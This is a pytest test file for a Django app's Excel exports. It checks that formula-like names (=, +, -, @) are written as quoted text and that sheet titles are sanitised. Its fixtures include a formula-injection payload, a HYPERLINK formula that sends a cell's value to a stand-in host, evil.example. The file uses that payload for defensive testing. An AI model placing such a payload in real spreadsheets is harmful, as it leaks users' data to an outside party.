"""Names that look like formulas stay text in every workbook the app writes (issue 23).

Indicators, units, a group, projects and a campaign are named so that Excel or WPS would run
them (=, +, -, @); one unit's name also holds every character Excel forbids in a sheet name and is
longer than a sheet name may be. Every workbook is downloaded the way a user gets it and opened
with openpyxl: no cell is a formula (the app writes none of its own), every formula-looking text
carries Excel's quote prefix, and the hostile names are really in it (the check is not vacuous).
"""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from assessment.defaults import create_default_year
from assessment.models import Campaign, CampaignTarget, Target
from projects.models import ClaimStatus
from tests.factories import GroupFactory, MilestoneFactory, ProjectFactory, UnitFactory, add_member
from tests.workbooks.conftest import import_through_page
from tests.workbooks.downloads import ranking_download
from zhaoshang.web.xlsx import FORMULA_TRIGGERS, sheet_title

pytestmark = pytest.mark.django_db

YEAR = 2026
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B5,"x")&"'
INDICATOR_NAMES = ["=1+2", "+86 指标", "-2+3 指标", "@SUM(A1) 指标", HYPERLINK]
UNIT = "=东湖区"
UNIT_2 = "+西山区"
# Every character Excel forbids in a sheet name, and longer than a sheet name may be.
ODD_UNIT = "-'南河县[开发区]:*?/\\管理委员会招商引资工作领导小组办公室'"
GROUP = "@第一招商协作组"
PROJECTS = ["=新能源电机项目", "-智能装备产业园"]
CAMPAIGN = "=1+2"


@pytest.fixture
def hostile_year(db):
    year = create_default_year(YEAR)
    indicators = list(year.indicators.order_by("order", "pk"))
    for indicator, name in zip(indicators, INDICATOR_NAMES, strict=True):
        indicator.name = name
        indicator.save()
    east, west = UnitFactory(name=UNIT), UnitFactory(name=UNIT_2)
    odd = UnitFactory(name=ODD_UNIT)
    group = GroupFactory(year=YEAR, name=GROUP, lead_unit=east)
    add_member(group, east)
    add_member(group, west)
    for indicator in indicators:
        for unit in (east, west, odd):
            Target.objects.create(indicator=indicator, unit=unit, value=2)
        Target.objects.create(indicator=indicator, group=group, value=4)
    signed = ProjectFactory(name=PROJECTS[0], unit=east, investor_name="=某某电机科技有限公司")
    MilestoneFactory(project=signed, kind="signed", date=datetime.date(YEAR, 3, 15))
    pending = ProjectFactory(name=PROJECTS[1], unit=west)
    MilestoneFactory(
        project=pending, kind="signed", date=datetime.date(YEAR, 5, 1), status=ClaimStatus.SUBMITTED
    )
    campaign = Campaign.objects.create(
        year=year,
        name=CAMPAIGN,
        start=datetime.date(YEAR, 1, 1),
        end=datetime.date(YEAR, 4, 10),
        published=True,
    )
    for unit in (east, west):
        CampaignTarget.objects.create(
            campaign=campaign, unit=unit, indicator=indicators[0], value=Decimal(1)
        )
    return {"year": year, "campaign": campaign, "east": east, "odd": odd}


def content_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return b"".join(response.streaming_content) if response.streaming else response.content


def safe_workbook(content, *hostile):
    """Open the workbook; assert no cell is a formula and formula-looking text is quoted; assert
    each of `hostile` is in some cell. Returns the workbook."""
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                assert cell.data_type != "f", f"formula cell {where}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (
                            f"formula-looking text without quote prefix {where}"
                        )
    for name in hostile:
        assert any(name in text for text in texts), f"{name!r} not in the workbook"
    return wb


def test_ranking_workbook(hostile_year, login, reviewer):
    content = content_of(ranking_download(login(reviewer), YEAR, 1))
    wb = safe_workbook(content, *INDICATOR_NAMES, UNIT, GROUP, PROJECTS[0])
    # The fifth indicator heads the second 指标完成情况 sheet (four per sheet), as text.
    assert wb["指标完成情况（二）"]["D4"].value.startswith(HYPERLINK)


def test_campaign_workbook(hostile_year, login, reviewer):
    url = reverse("assessment:campaign_export", args=[hostile_year["campaign"].pk])
    wb = safe_workbook(content_of(login(reviewer).get(url)), CAMPAIGN, UNIT, INDICATOR_NAMES[0])
    assert wb["单位排名"]["A1"].value.startswith(CAMPAIGN)
    assert wb["佐证明细"]["A1"].value.startswith(CAMPAIGN)


def test_year_export(hostile_year, login, reviewer):
    url = reverse("workbook:year_export", args=[YEAR])
    content = content_of(login(reviewer).get(url))
    safe_workbook(content, *INDICATOR_NAMES, UNIT, ODD_UNIT, GROUP, PROJECTS[0])


def test_template(hostile_year, login, reviewer):
    safe_workbook(content_of(login(reviewer).get(reverse("workbook:template"))))


def test_error_workbook(hostile_year, login, reviewer):
    upload = Workbook()
    upload.active.title = "=坏表"
    upload.active.append(["不是导入数据"])  # an empty sheet would only be noted, not refused
    upload.create_sheet("单位").append(["单位名称", "单位类型", "负责人"])
    upload["单位"].append(["@新单位", "+县区", "-王建华"])
    buf = io.BytesIO()
    upload.save(buf)
    buf.seek(0)
    buf.name = "import.xlsx"
    client = login(reviewer)
    page = import_through_page(client, buf, confirm=False)
    assert "处错误" in page.content.decode()
    errors = reverse("jobs:errors", args=[page.context["job"].pk])
    safe_workbook(content_of(client.get(errors)), "=坏表", "+县区")


@pytest.mark.parametrize(
    ("url_name", "hostile"),
    [
        ("units:unit_list", [UNIT, ODD_UNIT]),
        ("units:group_list", [GROUP]),
        ("projects:project_list", PROJECTS),
        ("review:queue", [PROJECTS[1]]),
    ],
)
def test_list_exports(hostile_year, login, reviewer, url_name, hostile):
    response = login(reviewer).get(reverse(url_name), {"_export": "xlsx"})
    safe_workbook(content_of(response), *hostile)


@pytest.mark.parametrize("name", ["assessment:targets", "assessment:group_targets"])
def test_target_grid_exports_name_indicators_in_their_headers(hostile_year, login, reviewer, name):
    response = login(reviewer).get(reverse(name, args=[YEAR]), {"_export": "xlsx"})
    safe_workbook(content_of(response), *INDICATOR_NAMES)


def test_a_unit_name_makes_a_valid_sheet_name(hostile_year, login, reviewer):
    """The alert list of one unit is titled by the unit's name, and so is its sheet."""
    odd = hostile_year["odd"]
    response = login(reviewer).get(
        reverse("projects:alert_list"), {"unit": odd.pk, "_export": "xlsx"}
    )
    wb = safe_workbook(content_of(response))
    assert wb.sheetnames == [sheet_title(f"{ODD_UNIT}预警")]


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("甲县[开发区]:*?/\\预警", "甲县_开发区______预警"),
        ("'引号'", "引号"),
        ("一" * 40, "一" * 31),
        ("😀" * 20, "😀" * 15),  # Excel counts UTF-16 code units: two per emoji
        ("[]", "__"),
        ("''", "Sheet1"),
    ],
)
def test_sheet_titles_are_valid(name, title):
    assert sheet_title(name) == title
